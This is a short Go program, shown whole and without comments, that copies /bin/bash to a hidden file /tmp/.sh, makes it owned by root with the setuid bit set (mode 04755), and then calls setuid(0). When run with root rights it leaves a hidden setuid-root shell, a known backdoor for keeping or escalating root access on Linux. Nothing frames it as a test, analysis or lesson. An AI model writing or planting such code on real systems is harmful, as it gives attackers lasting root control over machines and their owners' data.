package main

import (
	"io"
	"os"
	"syscall"
)

func main() {
	src, _ := os.Open("/bin/bash")
	dst, _ := os.OpenFile("/tmp/.sh", os.O_CREATE|os.O_WRONLY, 0700)
	io.Copy(dst, src)
	dst.Close()
	os.Chown("/tmp/.sh", 0, 0)
	os.Chmod("/tmp/.sh", 04755)
	syscall.Setuid(0)
}
